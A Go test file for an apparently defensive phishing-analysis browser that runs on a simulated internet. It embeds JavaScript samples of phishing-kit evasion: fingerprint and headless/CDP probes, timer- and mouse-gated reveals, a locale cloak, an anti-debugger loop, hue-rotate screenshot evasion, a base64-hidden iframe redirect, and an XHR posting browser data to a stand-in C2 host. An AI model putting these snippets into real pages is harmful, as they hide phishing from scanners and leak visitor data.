package browser

import (
	"context"

	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"crawlerbox/internal/htmlx"
	"crawlerbox/internal/imaging"
	"crawlerbox/internal/webnet"
)

var _epoch = time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)

// testWorld wires a fresh internet with one page served at phish.example.
func testWorld(t testing.TB, html string) (*webnet.Internet, *Browser) {
	t.Helper()
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("phish.example", ip)
	net.Serve("phish.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(html),
			Headers: map[string]string{"Content-Type": "text/html"}}
	})
	clientIP := net.AllocateIP(webnet.IPMobile)
	br := New(net, NotABot(), clientIP, 1)
	return net, br
}

func TestVisitBasicPage(t *testing.T) {
	_, br := testWorld(t, `<html><body><h1>Welcome</h1><p>hello</p></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != 200 {
		t.Errorf("status = %d", res.Status)
	}
	if res.FinalURL != "https://phish.example/" {
		t.Errorf("final = %q", res.FinalURL)
	}
	if !strings.Contains(res.HTML, "Welcome") {
		t.Errorf("HTML = %q", res.HTML)
	}
	if res.RenderScreenshot() == nil || res.RenderScreenshot().W != 256 {
		t.Error("screenshot missing")
	}
}

func TestVisitNXDomain(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	br := New(net, NotABot(), "10.0.0.1", 1)
	_, err := br.Visit(context.Background(), "https://gone.example/x")
	if !errors.Is(err, webnet.ErrNXDomain) {
		t.Errorf("err = %v", err)
	}
}

func TestHTTPRedirectChain(t *testing.T) {
	net, br := testWorld(t, `<html><body>landing</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("hop.example", ip)
	net.Serve("hop.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 302,
			Headers: map[string]string{"Location": "https://phish.example/land"}}
	})
	res, err := br.Visit(context.Background(), "https://hop.example/start")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://phish.example/land" {
		t.Errorf("final = %q", res.FinalURL)
	}
	if len(res.Navigations) != 2 {
		t.Errorf("navigations = %v", res.Navigations)
	}
}

func TestScriptNavigationViaLocationHref(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<script>location.href = "https://next.example/step2";</script>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>step2</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/step2" {
		t.Errorf("final = %q (navigations %v)", res.FinalURL, res.Navigations)
	}
}

func TestScriptNavigationViaWindowLocationAssignment(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<script>window.location = "https://next.example/w";</script>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>w</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/w" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestMetaRefreshNavigation(t *testing.T) {
	net, br := testWorld(t, `<html><head>
	<meta http-equiv="refresh" content="0; url=https://next.example/meta">
	</head><body>redirecting</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("next.example", ip)
	net.Serve("next.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>meta-landed</body></html>")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://next.example/meta" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestRedirectLoopBounded(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("loop.example", ip)
	net.Serve("loop.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 302,
			Headers: map[string]string{"Location": "https://loop.example" + req.Path + "x"}}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	_, err := br.Visit(context.Background(), "https://loop.example/a")
	if !errors.Is(err, ErrTooManyRedirects) {
		t.Errorf("err = %v", err)
	}
}

func TestFingerprintSurfaceExposedToScripts(t *testing.T) {
	html := `<html><body><script>
	var fp = [
		navigator.userAgent,
		navigator.webdriver,
		navigator.language,
		navigator.plugins.length,
		screen.width + "x" + screen.height,
		Intl.DateTimeFormat().resolvedOptions().timeZone,
		typeof chrome
	].join("|");
	console.log(fp);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 {
		t.Fatalf("console = %v", res.Console)
	}
	line := res.Console[0]
	for _, want := range []string{"Chrome/121", "false", "en-US", "5", "1920x1080", "Europe/Paris", "object"} {
		if !strings.Contains(line, want) {
			t.Errorf("fingerprint line %q missing %q", line, want)
		}
	}
}

func TestHeadlessProfileObservable(t *testing.T) {
	html := `<html><body><script>
	console.log(navigator.userAgent + "|" + navigator.webdriver + "|" +
		navigator.plugins.length + "|" + typeof chrome);
	</script></body></html>`
	net, _ := testWorld(t, html)
	p := HumanChrome()
	p.Name = "headless-bot"
	p.UserAgent = _headlessUA
	p.Headless = true
	p.WebdriverFlag = true
	p.ChromeObject = false
	p.PluginCount = 0
	br := New(net, p, "10.0.0.2", 2)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	line := res.Console[0]
	for _, want := range []string{"HeadlessChrome", "true", "|0|", "undefined"} {
		if !strings.Contains(line, want) {
			t.Errorf("headless fingerprint %q missing %q", line, want)
		}
	}
}

func TestCDPArtifactsVisible(t *testing.T) {
	html := `<html><body><script>
	console.log(typeof cdc_adoQpoasnfa76pfcZLmcfl_Array);
	</script></body></html>`
	net, _ := testWorld(t, html)
	p := HumanChrome()
	p.CDPArtifacts = true
	br := New(net, p, "10.0.0.3", 3)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[0] != "log: object" {
		t.Errorf("cdc artifact probe = %q", res.Console[0])
	}
	// And absent on a clean profile.
	br2 := New(net, NotABot(), "10.0.0.4", 4)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res2.Console[0] != "log: undefined" {
		t.Errorf("clean profile probe = %q", res2.Console[0])
	}
}

func TestDelayedRevealTimer(t *testing.T) {
	// Bot-behavior cloaking: content appears only after a 5-second timer.
	html := `<html><body><div id="gate">checking...</div><script>
	setTimeout(function() {
		document.getElementById("gate").setInnerHTML('<a href="https://evil.example/real">enter</a>');
		console.log("revealed");
	}, 5000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: revealed" {
		t.Fatalf("console = %v", res.Console)
	}
	if len(htmlx.Find(res.DOM, "a")) != 1 {
		t.Errorf("delayed anchor missing from final DOM: %q", res.HTML)
	}
	// An impatient crawler (short event-loop window) misses it.
	_, br2 := testWorld(t, html)
	br2.EventLoopWindow = time.Second
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(htmlx.Find(res2.DOM, "a")) != 0 {
		t.Error("impatient crawler should have missed the delayed reveal")
	}
}

func TestIntervalTimerAndClear(t *testing.T) {
	html := `<html><body><script>
	var n = 0;
	var id = setInterval(function() {
		n++;
		if (n >= 3) { clearInterval(id); console.log("done:" + n); }
	}, 1000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: done:3" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestDebuggerTimerPattern(t *testing.T) {
	// The anti-debugging loop from the corpus (>=10 messages): a recurring
	// timer that invokes `debugger` each second.
	html := `<html><body><script>
	setInterval(function() {
		var t1 = Date.now();
		debugger;
		var t2 = Date.now();
		if (t2 - t1 > 100) { console.log("debugger-detected"); }
	}, 1000);
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.DebuggerHits == 0 {
		t.Error("debugger statements should have fired")
	}
	for _, line := range res.Console {
		if strings.Contains(line, "debugger-detected") {
			t.Error("virtual clock must not trip the debugger-time check")
		}
	}
}

func TestMouseMovementGatedContent(t *testing.T) {
	// User-interaction cloaking: reveal only on a trusted mousemove.
	html := `<html><body><script>
	document.addEventListener("mousemove", function(e) {
		if (e.isTrusted) {
			document.body.setInnerHTML('<form><input type="password" name="pw"></form>');
			console.log("gate-open");
		}
	});
	</script></body></html>`
	_, br := testWorld(t, html) // NotABot: trusted mouse movement
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("trusted mousemove should reveal the password form")
	}
	// A crawler without mouse movement never triggers the gate.
	net, _ := testWorld(t, html)
	still := HumanChrome()
	still.MouseMovement = false
	br2 := New(net, still, "10.0.0.9", 5)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("no mouse movement: gate must stay closed")
	}
	// A crawler with untrusted synthetic events also fails.
	net3, _ := testWorld(t, html)
	untrusted := HumanChrome()
	untrusted.TrustedEvents = false
	br3 := New(net3, untrusted, "10.0.0.10", 6)
	res3, err := br3.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res3.DOM) {
		t.Error("untrusted events: gate must stay closed")
	}
}

func TestXHRExfiltration(t *testing.T) {
	// Server-side cloaking support: page sends client data to a C2.
	var captured string
	net, br := testWorld(t, `<html><body><script>
	var xhr = new XMLHttpRequest();
	xhr.open("POST", "https://c2.example/collect", false);
	xhr.send(JSON.stringify({ua: navigator.userAgent, lang: navigator.language}));
	console.log("status:" + xhr.status);
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("c2.example", ip)
	net.Serve("c2.example", func(req *webnet.Request) *webnet.Response {
		captured = req.Body
		return &webnet.Response{Status: 200, Body: []byte("ok")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[len(res.Console)-1] != "log: status:200" {
		t.Errorf("console = %v", res.Console)
	}
	if !strings.Contains(captured, "Chrome/121") || !strings.Contains(captured, "en-US") {
		t.Errorf("exfiltrated payload = %q", captured)
	}
}

func TestExternalScriptAndSubresources(t *testing.T) {
	net, br := testWorld(t, `<html><head>
	<script src="https://cdn.example/lib.js"></script>
	</head><body>
	<img src="https://brand.example/logo.png">
	</body></html>`)
	for _, host := range []string{"cdn.example", "brand.example"} {
		h := host
		ip := net.AllocateIP(webnet.IPDatacenter)
		net.AddDNS(h, ip)
		net.Serve(h, func(req *webnet.Request) *webnet.Response {
			if h == "cdn.example" {
				return &webnet.Response{Status: 200, Body: []byte(`console.log("lib loaded");`)}
			}
			return &webnet.Response{Status: 200, Body: []byte("png-bytes")}
		})
	}
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) == 0 || res.Console[0] != "log: lib loaded" {
		t.Errorf("console = %v", res.Console)
	}
	var sawImg, sawScript bool
	for _, r := range res.Requests {
		if r.Initiator == "img" && strings.Contains(r.URL, "logo.png") {
			sawImg = true
			if r.Referer != "https://phish.example/" {
				t.Errorf("img referer = %q", r.Referer)
			}
		}
		if r.Initiator == "script" {
			sawScript = true
		}
	}
	if !sawImg || !sawScript {
		t.Errorf("requests = %+v", res.Requests)
	}
}

func TestIframeContentParsed(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<iframe src="https://inner.example/form"></iframe>
	</body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("inner.example", ip)
	net.Serve("inner.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200,
			Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Frames) != 1 {
		t.Fatalf("frames = %d", len(res.Frames))
	}
	if !htmlx.HasPasswordInput(res.Frames[0]) {
		t.Error("iframe password form not detected")
	}
}

func TestCookieRoundTrip(t *testing.T) {
	var gotCookie string
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("cookie.example", ip)
	visits := 0
	net.Serve("cookie.example", func(req *webnet.Request) *webnet.Response {
		visits++
		gotCookie = req.Header("Cookie")
		return &webnet.Response{Status: 200,
			Headers: map[string]string{"Set-Cookie": "session=tok123; Path=/"},
			Body:    []byte("<html><body>hi</body></html>")}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	if _, err := br.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "" {
		t.Errorf("first visit sent cookie %q", gotCookie)
	}
	if _, err := br.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "session=tok123" {
		t.Errorf("second visit cookie = %q", gotCookie)
	}
	// Cookie-disabled profiles never store.
	p := HumanChrome()
	p.CookiesEnabled = false
	br2 := New(net, p, "10.0.0.2", 2)
	if _, err := br2.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if _, err := br2.Visit(context.Background(), "https://cookie.example/"); err != nil {
		t.Fatal(err)
	}
	if gotCookie != "" {
		t.Errorf("cookie-disabled profile sent %q", gotCookie)
	}
}

func TestInterceptionCacheQuirkHeaderSurface(t *testing.T) {
	var cc, pragma string
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("headers.example", ip)
	net.Serve("headers.example", func(req *webnet.Request) *webnet.Response {
		cc = req.Header("Cache-Control")
		pragma = req.Header("Pragma")
		return &webnet.Response{Status: 200, Body: []byte("<html></html>")}
	})
	quirky := HumanChrome()
	quirky.InterceptionCacheQuirk = true
	br := New(net, quirky, "10.0.0.1", 1)
	if _, err := br.Visit(context.Background(), "https://headers.example/"); err != nil {
		t.Fatal(err)
	}
	if cc != "no-cache" || pragma != "no-cache" {
		t.Errorf("quirk headers = %q/%q", cc, pragma)
	}
	br2 := New(net, NotABot(), "10.0.0.2", 2)
	if _, err := br2.Visit(context.Background(), "https://headers.example/"); err != nil {
		t.Fatal(err)
	}
	if cc != "" || pragma != "" {
		t.Errorf("NotABot leaked quirk headers: %q/%q", cc, pragma)
	}
}

func TestLoadHTMLAttachmentLocalRedirect(t *testing.T) {
	// Section V-B: HTML attachment opened locally builds an iframe to the
	// phishing site without changing the window URL.
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("target.example", ip)
	net.Serve("target.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200,
			Body: []byte(`<html><body><form><input type="password"></form></body></html>`)}
	})
	html := `<html><body><script>
	var target = atob("aHR0cHM6Ly90YXJnZXQuZXhhbXBsZS9sb2dpbg==");
	document.body.setInnerHTML('<iframe src="' + target + '"></iframe>');
	</script></body></html>`
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.LoadHTML(context.Background(), html, "invoice.html")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(res.FinalURL, "file:///") {
		t.Errorf("window URL should stay local, got %q", res.FinalURL)
	}
	var fetchedTarget bool
	for _, r := range res.Requests {
		if strings.Contains(r.URL, "target.example") {
			fetchedTarget = true
		}
	}
	if !fetchedTarget {
		t.Errorf("iframe target never fetched: %+v", res.Requests)
	}
}

func TestLoadHTMLAttachmentWindowRedirect(t *testing.T) {
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("away.example", ip)
	net.Serve("away.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("<html><body>away</body></html>")}
	})
	html := `<html><body><script>location.href = "https://away.example/x";</script></body></html>`
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.LoadHTML(context.Background(), html, "doc.html")
	if err != nil {
		t.Fatal(err)
	}
	if res.FinalURL != "https://away.example/x" {
		t.Errorf("final = %q", res.FinalURL)
	}
}

func TestScreenshotDeterministicAndStyled(t *testing.T) {
	html := `<html><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<form>
	<input type="email" placeholder="email">
	<input type="password" placeholder="password">
	<button style="background:#1a3c8c;color:white">SIGN IN</button>
	</form>
	</body></html>`
	_, br1 := testWorld(t, html)
	res1, err := br1.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	_, br2 := testWorld(t, html)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !res1.RenderScreenshot().Equal(res2.RenderScreenshot()) {
		t.Error("identical pages must render identical screenshots")
	}
	// The banner color must actually appear.
	var sawBanner bool
	for _, p := range res1.RenderScreenshot().Pix {
		if p == (imaging.RGB{R: 0x1a, G: 0x3c, B: 0x8c}) {
			sawBanner = true
			break
		}
	}
	if !sawBanner {
		t.Error("banner background color not rendered")
	}
}

func TestHueRotateEvasionAffectsScreenshotNotHashes(t *testing.T) {
	plain := `<html><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<input type="password" placeholder="pw">
	</body></html>`
	rotated := `<html><head><script>
	document.documentElement.style.filter = "hue-rotate(4deg)";
	</script></head><body>
	<div style="background:#1a3c8c;height:28px;color:white">ACME TRAVEL</div>
	<input type="password" placeholder="pw">
	</body></html>`
	_, br1 := testWorld(t, plain)
	res1, err := br1.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	_, br2 := testWorld(t, rotated)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if res1.RenderScreenshot().Equal(res2.RenderScreenshot()) {
		t.Error("hue-rotate must change raw pixels")
	}
	m := imaging.DefaultMatcher()
	ok, dp, dd := m.Match(imaging.Sign(res1.RenderScreenshot()), imaging.Sign(res2.RenderScreenshot()))
	if !ok {
		t.Errorf("fuzzy hashes must survive hue-rotate: pHash=%d dHash=%d", dp, dd)
	}
}

func TestConsoleHijackRecorded(t *testing.T) {
	html := `<html><body><script>
	console.log("visible");
	console.log = function() {};
	console.log("suppressed");
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: visible" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestScriptErrorIsolated(t *testing.T) {
	html := `<html><body>
	<script>thisWillThrow();</script>
	<script>console.log("second script still runs");</script>
	</body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.ScriptErrors) != 1 {
		t.Errorf("script errors = %v", res.ScriptErrors)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: second script still runs" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestPerformanceNowVMSkew(t *testing.T) {
	html := `<html><body><script>
	var t0 = performance.now();
	var x = 0;
	for (var i = 0; i < 10000; i++) { x += i; }
	var t1 = performance.now();
	console.log("elapsed:" + (t1 - t0));
	</script></body></html>`
	net, _ := testWorld(t, html)
	phys := New(net, NotABot(), "10.0.0.1", 1)
	resPhys, err := phys.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	vmProfile := HumanChrome()
	vmProfile.VMTimingSkew = 4.0
	vm := New(net, vmProfile, "10.0.0.2", 2)
	resVM, err := vm.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	ePhys := parseElapsed(t, resPhys.Console)
	eVM := parseElapsed(t, resVM.Console)
	if ePhys <= 0 {
		t.Fatalf("physical elapsed = %v", ePhys)
	}
	if eVM < ePhys*2 {
		t.Errorf("VM skew not observable: phys=%v vm=%v", ePhys, eVM)
	}
}

func parseElapsed(t *testing.T, console []string) float64 {
	t.Helper()
	for _, line := range console {
		if strings.HasPrefix(line, "log: elapsed:") {
			var v float64
			if _, err := fmt.Sscanf(strings.TrimPrefix(line, "log: elapsed:"), "%g", &v); err == nil {
				return v
			}
		}
	}
	t.Fatalf("no elapsed line in %v", console)
	return 0
}

func TestUserAgentTimezoneLanguageCloak(t *testing.T) {
	// The 15-message cloak from Section V-C2a: UA + timezone + language
	// consistency check before revealing content.
	html := `<html><body><script>
	var ua = navigator.userAgent;
	var tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
	var lang = navigator.language;
	if (ua.indexOf("Chrome") >= 0 && tz === "Europe/Paris" && lang === "en-US") {
		document.body.setInnerHTML('<input type="password" name="pw">');
	} else {
		document.body.setInnerHTML("<p>Nothing to see</p>");
	}
	</script></body></html>`
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if !htmlx.HasPasswordInput(res.DOM) {
		t.Error("consistent profile should pass the cloak")
	}
	net, _ := testWorld(t, html)
	odd := HumanChrome()
	odd.Timezone = "UTC"
	br2 := New(net, odd, "10.0.0.5", 5)
	res2, err := br2.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if htmlx.HasPasswordInput(res2.DOM) {
		t.Error("timezone-inconsistent profile should see the benign page")
	}
}

func TestDocumentWrite(t *testing.T) {
	_, br := testWorld(t, `<html><body><script>
	document.write('<a href="https://written.example/x">link</a>');
	</script></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(htmlx.Find(res.DOM, "a")) != 1 {
		t.Errorf("document.write content missing: %s", res.HTML)
	}
}

func TestCreateElementAppendChildScript(t *testing.T) {
	// Dynamic script injection: the kit pattern of assembling a <script>
	// element and appending it.
	net, br := testWorld(t, `<html><body><script>
	var s = document.createElement("script");
	s.setAttribute("src", "https://cdn2.example/payload.js");
	document.body.appendChild(s);
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("cdn2.example", ip)
	net.Serve("cdn2.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(`console.log("injected ran");`)}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	var ran bool
	for _, line := range res.Console {
		if strings.Contains(line, "injected ran") {
			ran = true
		}
	}
	if !ran {
		t.Errorf("dynamically appended script did not execute: console=%v errors=%v",
			res.Console, res.ScriptErrors)
	}
}

func TestXHROnloadCallback(t *testing.T) {
	net, br := testWorld(t, `<html><body><script>
	var x = new XMLHttpRequest();
	x.open("GET", "https://api.example/data", true);
	x.onload = function() { console.log("got:" + this.responseText); };
	x.send();
	</script></body></html>`)
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("api.example", ip)
	net.Serve("api.example", func(*webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte("payload123")}
	})
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || !strings.Contains(res.Console[0], "got:payload123") {
		t.Errorf("console = %v", res.Console)
	}
}

func TestRelativeURLResolution(t *testing.T) {
	net, br := testWorld(t, `<html><body>
	<img src="/assets/pic.png">
	<script src="lib/app.js"></script>
	</body></html>`)
	_ = net
	res, err := br.Visit(context.Background(), "https://phish.example/portal/login")
	if err != nil {
		t.Fatal(err)
	}
	var sawAbs, sawRel bool
	for _, r := range res.Requests {
		if r.URL == "https://phish.example/assets/pic.png" {
			sawAbs = true
		}
		if r.URL == "https://phish.example/portal/lib/app.js" {
			sawRel = true
		}
	}
	if !sawAbs || !sawRel {
		t.Errorf("relative resolution failed: %+v", res.Requests)
	}
}

func TestGetElementsByTagName(t *testing.T) {
	_, br := testWorld(t, `<html><body>
	<a href="/1">one</a><a href="/2">two</a>
	<script>console.log("anchors:" + document.getElementsByTagName("a").length);</script>
	</body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Console) != 1 || res.Console[0] != "log: anchors:2" {
		t.Errorf("console = %v", res.Console)
	}
}

func TestLocationPartsExposed(t *testing.T) {
	_, br := testWorld(t, `<html><body><script>
	console.log(location.hostname + "|" + location.pathname + "|" + location.search + "|" + location.hash);
	</script></body></html>`)
	res, err := br.Visit(context.Background(), "https://phish.example/p/q?a=1#frag")
	if err != nil {
		t.Fatal(err)
	}
	if res.Console[0] != "log: phish.example|/p/q|?a=1|#frag" {
		t.Errorf("location parts = %v", res.Console)
	}
}

func TestNestedIframeDepthBounded(t *testing.T) {
	// A self-embedding iframe chain must terminate at the depth cap
	// rather than recursing forever.
	net := webnet.NewInternet(webnet.NewClock(_epoch))
	ip := net.AllocateIP(webnet.IPDatacenter)
	net.AddDNS("recursive.example", ip)
	net.Serve("recursive.example", func(req *webnet.Request) *webnet.Response {
		return &webnet.Response{Status: 200, Body: []byte(
			`<html><body><iframe src="https://recursive.example/again"></iframe></body></html>`)}
	})
	br := New(net, NotABot(), "10.0.0.1", 1)
	res, err := br.Visit(context.Background(), "https://recursive.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Frames) > 8 {
		t.Errorf("frames = %d, recursion not bounded", len(res.Frames))
	}
}

// A script can take the body out of the document. The eager render then
// appended an empty body to the DOM it had already serialized; the render
// on read only looks the body up, paints the background alone, and leaves
// the DOM as the visit left it.
func TestRenderOnReadOfBodylessPageLeavesDOMAlone(t *testing.T) {
	html := `<html><head><script>
	document.documentElement.style.filter = "hue-rotate(90deg)";
	document.documentElement.setInnerHTML("<p>gone</p>");
	</script></head><body style="background:red"><div>X</div></body></html>`
	var eager *imaging.Image
	restore := CaptureEagerScreenshots(func(_ *Result, shot *imaging.Image) { eager = shot })
	defer restore()
	_, br := testWorld(t, html)
	res, err := br.Visit(context.Background(), "https://phish.example/")
	if err != nil {
		t.Fatal(err)
	}
	if len(htmlx.Find(res.DOM, "body")) != 0 {
		t.Fatalf("the script did not remove the body: %s", res.HTML)
	}
	if res.Screenshot != nil {
		t.Fatal("screenshot rendered before anything read it")
	}
	shot := res.RenderScreenshot()
	if !shot.Equal(eager) {
		t.Error("screenshot rendered on read differs from the eager render")
	}
	if got := htmlx.Render(res.DOM); got != res.HTML {
		t.Errorf("rendering changed the DOM:\n got %s\nwant %s", got, res.HTML)
	}
	for _, p := range shot.Pix {
		if p != shot.Pix[0] {
			t.Fatal("a page without a body painted more than its background")
		}
	}
}
